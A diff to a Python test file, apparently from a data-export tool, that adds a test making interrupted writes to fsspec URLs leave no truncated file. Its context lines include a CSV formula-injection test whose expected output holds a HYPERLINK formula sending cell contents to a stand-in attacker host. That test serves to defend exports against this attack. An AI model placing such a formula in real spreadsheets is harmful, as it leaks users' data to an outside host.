@@ -714,3 +714,23 @@ def test_csv_cells_that_a_spreadsheet_reads_as_formulas_start_with_a_quote(tmp_p
     assert written == {"'" + n for n in names[:-1]} | {"ok=1"}
     stdout = cli("export", str(tmp_path / "run")).stdout
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in stdout
+
+
+@pytest.mark.parametrize("scheme", ["memory", "file"])
+def test_an_output_to_a_url_cut_short_leaves_nothing(tmp_path: Path, scheme: str) -> None:
+    """Review of hunt 41 F3: fsspec makes the object of what was written when its file closes, also after an
+    error: a CSV or plot written to a URL (``memory://``, ``file://``, ``s3://``) and cut short by a Ctrl-C was
+    left truncated at the URL. Now it is written to a local file first and copied once whole."""
+    import fsspec
+
+    from tensortap.trial.export import written_whole
+
+    url = f"memory://{tmp_path.name}/out.csv" if scheme == "memory" else f"file://{tmp_path}/out.csv"
+    fs, path = fsspec.core.url_to_fs(url)
+    with pytest.raises(KeyboardInterrupt), written_whole(url) as file:
+        file.write(b"half,")
+        raise KeyboardInterrupt
+    assert not fs.exists(path)
+    with written_whole(url) as file:
+        file.write(b"a,b\n1,2\n")
+    assert fs.cat(path) == b"a,b\n1,2\n"
